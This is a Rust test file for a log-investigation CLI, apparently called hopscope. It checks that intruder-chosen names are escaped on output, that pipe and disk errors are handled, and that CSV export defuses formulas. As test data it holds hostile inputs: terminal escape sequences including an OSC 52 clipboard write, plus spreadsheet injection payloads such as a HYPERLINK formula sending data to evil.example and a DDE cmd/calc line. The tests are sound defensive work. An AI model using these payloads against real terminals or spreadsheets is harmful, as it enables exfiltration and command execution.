//! What hopscope prints cannot attack its reader, and printing cannot crash it: names chosen
//! by an intruder (accounts, workstation names, file names, bad lines) reach the terminal
//! escaped from every command, and every command ends quietly when its reader goes away.

mod support;

use std::path::Path;
use std::process::{Command, Stdio};

use support::story::{events, HOSTS};
use support::{hopscope, ok};

/// Escape sequences and invisible characters an intruder can put into a name: clear screen,
/// OSC 52 clipboard write, concealed text, C1 CSI, bidi override and isolate, carriage
/// return, BEL, DEL.
const OSC52_USER: &str = "ops\u{1b}]52;c;Y2F0IC9ldGMvcGFzc3dk\u{7}admin";
const CLEAR_USER: &str = "svc\u{1b}[2J\u{1b}[Hbackup\u{7f}";
const WORKSTATION: &str = "WS\u{9b}2J\u{202e}exe.txt\u{2066}";
const CONCEALED: &str = "dev\u{1b}[8mroot\r\u{9d}0;t\u{9c}";
const FILE_NAME: &str = "auth\u{1b}[5m\u{202e}.jsonl";

/// The story case with the intruder's accounts and workstation hostile, read from a file
/// with a hostile name, with one bad line quoting a hostile name.
fn hostile_case(p: &Path) {
    let js = |s: &str| serde_json::to_string(s).unwrap();
    let mut ev = events()
        .replace("\"opsadmin\"", &js(OSC52_USER))
        .replace("\"svc_backup\"", &js(CLEAR_USER));
    ev.push_str(&format!(
        "{{\"time\":\"2019-09-05T12:30:00Z\",\"src_host\":{},\"dst_host\":\"th-app-02\",\"user\":{},\"auth\":\"NTLM\",\"logon_type\":\"network\",\"outcome\":\"success\",\"orientation\":\"logon\",\"format\":\"jsonl\"}}\n",
        js(WORKSTATION),
        js(CONCEALED)
    ));
    ev.push_str(&format!("{{\"time\":{},\"dst_host\":\"x\"}}\n", js(CONCEALED)));
    std::fs::create_dir_all(p.join("cmdb")).unwrap();
    std::fs::write(p.join("cmdb/hosts.csv"), HOSTS).unwrap();
    std::fs::write(p.join(FILE_NAME), ev).unwrap();
}

/// Characters a terminal acts on instead of showing (a newline is a newline).
fn hostile_chars(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

#[test]
fn hostile_names_reach_the_terminal_escaped_from_every_command() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    hostile_case(p);
    let at = ["--at", "2019-09-05T15:00:00Z"];
    let runs: Vec<Vec<&str>> = vec![
        vec!["ingest", FILE_NAME, "--inventory", "cmdb", "--case", "c"],
        vec!["case", "info", "--case", "c"],
        vec!["case", "info", "--case", "c", "--json"],
        vec!["detect", "--case", "c", "--warmup", "2d"],
        vec!["detect", "--case", "c", "--warmup", "2d", "--json"],
        vec!["detect", "--case", "c", "--warmup", "2d", "--jsonl"],
        [&["trace", "--case", "c", "--host", "jp-crm-01"][..], &at].concat(),
        [&["trace", "--case", "c", "--host", "jp-crm-01", "--json"][..], &at].concat(),
        vec!["scope", "--case", "c", "--host", "sg-ops-03", "--at", "2019-09-04T22:01:00Z"],
        vec![
            "scope",
            "--case",
            "c",
            "--host",
            "sg-ops-03",
            "--at",
            "2019-09-04T22:01:00Z",
            "--json",
        ],
        vec!["audit", "--case", "c", "--as-of", "2019-09-07T00:00:00Z"],
        vec!["audit", "--case", "c", "--as-of", "2019-09-07T00:00:00Z", "--json"],
        vec!["export", "--case", "c"],
        vec!["trace", "--case", "c", "--host", CONCEALED, "--at", "2019-09-05T15:00:00Z"],
        // live: alert events on stdout, notifications and the bad line's problem on stderr
        vec!["watch", FILE_NAME, "--once", "--inventory", "cmdb", "--warmup", "2d"],
    ];
    let mut seen = String::new();
    let mut watched = String::new();
    for args in &runs {
        let o = hopscope(args, p);
        let (out, err) = (String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
        for (stream, text) in [("stdout", &out), ("stderr", &err)] {
            let bad = hostile_chars(text);
            assert!(bad.is_empty(), "hopscope {args:?} {stream} holds {bad:?}:\n{text}");
        }
        // JSON stays JSON (the names kept exactly: JSON's own escapes)
        if args[0] == "watch" {
            assert!(o.status.success(), "{err}");
            watched = format!("{out}{err}");
        }
        if args.contains(&"--jsonl") || args[0] == "export" || args[0] == "watch" {
            for line in out.lines() {
                serde_json::from_str::<serde_json::Value>(line).unwrap();
            }
        } else if args.contains(&"--json") {
            serde_json::from_str::<serde_json::Value>(&out).unwrap();
        }
        seen.push_str(&out);
        seen.push_str(&err);
    }
    // the names were printed, visibly escaped (else this test proves nothing)
    for shown in [
        "ops\\x1b]52;c;",
        "svc\\x1b[2J",
        "WS\\u009b2J\\u202e",
        "dev\\x1b[8mroot\\r",
        "auth\\x1b[5m\\u202e",
    ] {
        assert!(seen.contains(shown), "{shown} shown nowhere:\n{seen}");
    }
    // watch printed the intruder's names too (its alerts hold them)
    assert!(watched.contains("ops\\x1b]52;c;") || watched.contains("\\u001b]52;c;"), "{watched}");
    let exported = ok(&["export", "--case", "c"], p);
    assert!(exported.contains("\\u001b]52;c;"), "export keeps the account as data");
}

/// The commands that print on standard output, on the story case.
fn printing_commands() -> Vec<Vec<&'static str>> {
    vec![
        vec!["case", "info", "--case", "c"],
        vec!["case", "info", "--case", "c", "--json"],
        vec!["detect", "--case", "c", "--warmup", "2d"],
        vec!["detect", "--case", "c", "--warmup", "2d", "--json"],
        vec!["trace", "--case", "c", "--host", "jp-crm-01", "--at", "2019-09-05T15:00:00Z"],
        vec!["scope", "--case", "c", "--host", "sg-ops-03", "--at", "2019-09-04T22:01:00Z"],
        vec!["audit", "--case", "c", "--as-of", "2019-09-07T00:00:00Z"],
        vec!["export", "--case", "c"],
        vec!["export", "--case", "c", "--format", "csv"],
        vec!["report", "--case", "c", "--out", "r", "--formats", "json"],
        vec!["ingest", "events.jsonl", "--case", "c2", "--json"],
        vec!["case", "coverage", "--case", "c"],
        vec!["case", "coverage", "--case", "c", "--json"],
        vec!["detect", "--case", "c", "--warmup", "2d", "--jsonl"],
        vec!["detect", "--case", "c", "--warmup", "2d", "--save", "--json"],
        vec!["case", "merge", "c", "--case", "m", "--json"],
    ]
}

#[test]
fn every_command_ends_quietly_when_its_reader_goes_away() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    support::story::make_case(p);
    for args in printing_commands() {
        let mut child = Command::new(env!("CARGO_BIN_EXE_hopscope"))
            .args(&args)
            .current_dir(p)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // the reader goes away before a byte is written (`hopscope … | head -0`)
        drop(child.stdout.take());
        let o = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(!err.contains("panicked"), "hopscope {args:?}: {err}");
        assert_eq!(o.status.code(), Some(0), "hopscope {args:?}: {err}");
        assert!(!err.contains("error"), "hopscope {args:?}: a closed pipe is no error: {err}");
        let _ = std::fs::remove_dir_all(p.join("c2"));
        let _ = std::fs::remove_dir_all(p.join("m"));
    }
}

#[test]
fn every_command_says_so_when_its_output_is_full() {
    if !Path::new("/dev/full").exists() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    support::story::make_case(p);
    for args in printing_commands() {
        let full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
        let o = Command::new(env!("CARGO_BIN_EXE_hopscope"))
            .args(&args)
            .current_dir(p)
            .stdout(full)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(!err.contains("panicked"), "hopscope {args:?}: {err}");
        assert_eq!(o.status.code(), Some(1), "hopscope {args:?}: {err}");
        assert!(err.contains("No space left on device"), "hopscope {args:?}: {err}");
        let _ = std::fs::remove_dir_all(p.join("c2"));
        let _ = std::fs::remove_dir_all(p.join("m"));
    }
}

#[test]
fn case_info_cuts_a_long_path_between_characters() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    let name = format!("{}.jsonl", "東京ログ".repeat(20));
    std::fs::write(p.join(&name), events()).unwrap();
    ok(&["ingest", &name, "--case", "c"], p);
    let info = ok(&["case", "info", "--case", "c"], p);
    assert!(info.contains("  …") && info.contains("東京ログ.jsonl  jsonl"), "{info}");
}

/// Export's JSON lines without where each event was read from (a re-ingest reads another file).
fn events_of(jsonl: &str) -> Vec<serde_json::Value> {
    let mut v: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| {
            let mut e: serde_json::Value = serde_json::from_str(l).unwrap();
            let o = e.as_object_mut().unwrap();
            o.remove("evidence");
            o.remove("format");
            e
        })
        .collect();
    v.sort_by_key(|e| e.to_string());
    v
}

#[test]
fn csv_export_guards_formulas_and_keeps_every_event_through_ingest() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    let js = |s: &str| serde_json::to_string(s).unwrap();
    // names a spreadsheet would run, and names holding line breaks
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1)",
        "\tadmin",
        "\r=2",
        "'quoted",
        "two\nlines",
        "cr\rlf\r\nend\\",
    ];
    let mut ev = events();
    for (i, name) in hostile.iter().enumerate() {
        ev.push_str(&format!(
            "{{\"time\":\"2019-09-03T10:{i:02}:00Z\",\"src_host\":{},\"dst_host\":\"th-app-02\",\"user\":{},\"auth\":\"NTLM\",\"logon_type\":\"network\",\"outcome\":\"success\",\"orientation\":\"logon\",\"format\":\"jsonl\"}}\n",
            js(name),
            js(name)
        ));
    }
    std::fs::write(p.join("events.jsonl"), &ev).unwrap();
    ok(&["ingest", "events.jsonl", "--case", "c"], p);
    let csv = ok(&["export", "--case", "c", "--format", "csv"], p);
    // one line per event plus the header; no field a spreadsheet takes for a formula
    assert_eq!(csv.lines().count(), 65 + hostile.len() + 1, "{csv}");
    for line in csv.lines() {
        for field in line.split(',') {
            let f = field.trim_start_matches('"');
            assert!(!f.starts_with(['=', '+', '-', '@', '\t', '\r']), "{field:?} in {line}");
        }
    }
    std::fs::write(p.join("events.csv"), &csv).unwrap();
    let o = hopscope(&["ingest", "events.csv", "--format", "csv", "--case", "c2"], p);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success() && err.contains("no problems"), "{err}");
    let before = events_of(&ok(&["export", "--case", "c"], p));
    let after = events_of(&ok(&["export", "--case", "c2"], p));
    assert_eq!(before.len(), 65 + hostile.len());
    assert_eq!(before, after, "export → ingest → export keeps every event exactly");
}
